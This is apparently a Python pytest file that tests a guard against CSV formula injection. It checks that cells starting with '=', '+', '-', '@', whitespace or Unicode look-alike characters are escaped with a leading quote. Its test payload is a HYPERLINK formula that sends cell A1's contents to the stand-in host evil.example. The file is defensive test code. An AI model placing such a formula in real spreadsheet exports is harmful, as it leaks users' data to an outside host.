"""No cell of a CSV answer runs in a spreadsheet."""

import pytest

from gateway.http.request.csv_cells import guarded

LINK = 'HYPERLINK("https://evil.example/?"&A1)'


@pytest.mark.parametrize(
    "begins",
    [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "\t",
        "\r",
        "\n",
        " =",
        "\u00a0=",
        "\uff1d",
        "\ufeff=",
        "\u202e @",
        "\u200b=",
    ],
)
def test_what_may_be_a_formula_is_shown_as_text(begins: str) -> None:
    assert guarded({"from": begins + LINK}) == {"from": "'" + begins + LINK}


@pytest.mark.parametrize("cell", ["", "Anna", "0049-30", "a=b", 5, -5, 1.5, None, True])
def test_other_cells_stay(cell: object) -> None:
    assert guarded({"from": cell}) == {"from": cell}
